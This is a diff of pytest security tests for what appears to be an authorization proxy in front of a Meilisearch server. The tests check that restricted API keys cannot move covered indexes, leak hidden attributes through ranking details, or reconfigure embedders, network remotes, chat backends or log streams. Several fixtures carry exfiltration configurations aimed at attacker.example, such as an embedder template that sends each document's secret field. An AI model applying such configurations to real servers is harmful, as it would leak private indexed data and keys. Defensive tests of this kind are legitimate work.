@@ -303,3 +303,122 @@ def test_a_multi_search_cannot_multiply_them_past_the_body_limit(guard, backend)
     assert status == 413 and error["code"] == "payload_too_large" and seen is None
     queries = {"queries": [{"indexUid": "movies"}] * 100}
     assert send(guard, backend, big["key"], "POST", "/multi-search", queries)[0] == 200
+
+
+# ---------------------------------------------------------------------------------------------
+# Attacks: a key with forced parameters and more than search rights
+# ---------------------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def mover(guard):
+    """A careless admin's key: forced parameters, and the rights to swap and rename indexes."""
+    return new_key(guard, {"forcedParameters": FORCED},
+                   actions=("search", "indexes.swap", "indexes.update"))
+
+
+@pytest.mark.parametrize("method, target, body", [
+    ("POST", "/swap-indexes", [{"indexes": ["movies", "open"]}]),
+    ("POST", "/swap-indexes", [{"indexes": ["books", "x"]}, {"indexes": ["open", "movies-fr"],
+                                                             "rename": True}]),
+    ("PATCH", "/indexes/movies", {"uid": "open"}),
+    ("PATCH", "/indexes/open", {"uid": "movies-fr", "primaryKey": None}),
+])
+def test_covered_documents_cannot_be_moved_to_a_name_without_them(guard, backend, mover,
+                                                                  method, target, body):
+    # else the next search of `open` would return every document, every field
+    status, error, seen = send(guard, backend, mover["key"], method, target, body)
+    assert status == 403 and seen is None
+    assert error["code"] == "forbidden_by_restriction" and "forcedParameters" in error["message"]
+
+
+@pytest.mark.parametrize("method, target, body", [
+    ("POST", "/swap-indexes", [{"indexes": ["movies", "movies-old"]}, {"indexes": ["a", "b"]}]),
+    ("PATCH", "/indexes/movies", {"uid": "movies-2025"}),
+    ("PATCH", "/indexes/movies", {"uid": None, "primaryKey": "id"}),
+    ("PATCH", "/indexes/open", {"uid": "other"}),
+])
+def test_moves_between_names_with_the_same_forced_parameters_go_through(guard, backend, mover,
+                                                                        method, target, body):
+    status, _, seen = send(guard, backend, mover["key"], method, target, body)
+    assert status == 200 and seen == (method, target, body)
+
+
+def test_authorize_refuses_a_swap_it_cannot_read(guard, mover):
+    status = guard.request("GET", "/authorize", None, {
+        "Authorization": "Bearer " + mover["key"], "X-Original-Method": "POST",
+        "X-Original-URI": "/swap-indexes"})[0]
+    assert status == 403
+
+
+def test_ranking_details_of_a_sort_on_hidden_attributes_are_turned_off(guard, backend, key):
+    # the details of a sort show each hit's value of the sorted attribute
+    body = {"q": "x", "sort": ["secret:asc"], "showRankingScoreDetails": True}
+    sent = send(guard, backend, key["key"], "POST", "/indexes/movies/search", body)[2][2]
+    assert sent["showRankingScoreDetails"] is False and sent["sort"] == ["secret:asc"]
+    sent = send(guard, backend, key["key"], "POST", "/multi-search", {"queries": [dict(
+        body, indexUid="movies", sort=["title:asc", "_geoPoint(1,2):asc"])]})[2][2]
+    assert sent["queries"][0]["showRankingScoreDetails"] is False
+    target = send(guard, backend, key["key"], "GET", "/indexes/movies/search?sort=url%3Aasc"
+                  "%2Csecret%3Adesc&showRankingScoreDetails=true")[2][1]
+    assert query_of(target)["showRankingScoreDetails"] == "false"
+    # a sort on shown attributes keeps them
+    body = dict(body, sort=["title:asc", "url:desc"])
+    sent = send(guard, backend, key["key"], "POST", "/indexes/movies/search", body)[2][2]
+    assert sent["showRankingScoreDetails"] is True
+    target = send(guard, backend, key["key"], "GET",
+                  "/indexes/movies/search?sort=title:asc&showRankingScoreDetails=true")[2][1]
+    assert query_of(target)["showRankingScoreDetails"] == "true"
+
+
+def test_embedders_of_a_covered_index_cannot_be_changed(guard, backend):
+    # a REST embedder's documentTemplate would send every document, whole, to its URL
+    key = new_key(guard, {"forcedParameters": FORCED}, actions=("search", "settings.update"))
+    embedders = {"leak": {"source": "rest", "url": "http://attacker.example/",
+                          "documentTemplate": "{{doc.secret}}", "request": {}, "response": {}}}
+    for target, body in (("/indexes/movies/settings", {"embedders": embedders}),
+                         ("/indexes/movies-fr/settings/embedders", embedders)):
+        status, error, seen = send(guard, backend, key["key"], "PATCH", target, body)
+        assert status == 403 and error["code"] == "forbidden_by_restriction", target
+        assert seen is None or seen[0] == "GET", seen  # only the index's existence was asked
+    kept = {"embedders": None, "distinctAttribute": "id"}
+    for target, body in (("/indexes/movies/settings", kept),
+                         ("/indexes/books/settings/embedders", embedders)):
+        status, _, seen = send(guard, backend, key["key"], "PATCH", target, body)
+        assert status == 200 and seen == ("PATCH", target, body)
+
+
+def test_the_network_is_refused(guard, backend):
+    # a topology change moves documents to the remotes it names, as an export sends them; the
+    # network's description holds the remotes' own search and write keys, in the clear
+    rights = ("network.get", "network.update")
+    key = new_key(guard, {"forcedParameters": FORCED}, actions=("search",) + rights)
+    plain = new_key(guard, None, actions=rights)
+    change = {"remotes": {"out": {"url": "http://attacker.example"}}, "self": "here"}
+    for method, target in (("PATCH", "/network"), ("POST", "/network/control"),
+                           ("GET", "/network")):
+        change = None if method == "GET" else change
+        status, error, seen = send(guard, backend, key["key"], method, target, change)
+        assert status == 403 and seen is None and "forcedParameters" in error["message"]
+        assert send(guard, backend, plain["key"], method, target, change)[0] == 200
+
+
+def test_the_chat_backend_cannot_be_changed(guard, backend):
+    # a workspace's baseUrl gets the documents its chats search, covered indexes' included
+    key = new_key(guard, {"forcedParameters": FORCED}, actions=("search", "chatsSettings.update"))
+    settings = {"source": "openAi", "baseUrl": "http://attacker.example/v1"}
+    status, error, seen = send(guard, backend, key["key"], "PATCH", "/chats/site/settings",
+                               settings)
+    assert status == 403 and seen is None and "forcedParameters" in error["message"]
+    plain = new_key(guard, None, actions=("chatsSettings.update",))
+    assert send(guard, backend, plain["key"], "PATCH", "/chats/site/settings", settings)[0] == 200
+
+
+def test_the_log_stream_is_refused(guard, backend):
+    # at debug level it streams every search's hits and every document fetched, anyone's
+    key = new_key(guard, {"forcedParameters": FORCED}, actions=("search", "metrics.get"))
+    stream = {"target": "meilisearch=debug", "mode": "human"}
+    status, error, seen = send(guard, backend, key["key"], "POST", "/logs/stream", stream)
+    assert status == 403 and seen is None and "forcedParameters" in error["message"]
+    plain = new_key(guard, None, actions=("metrics.get",))
+    assert send(guard, backend, plain["key"], "POST", "/logs/stream", stream)[0] == 200
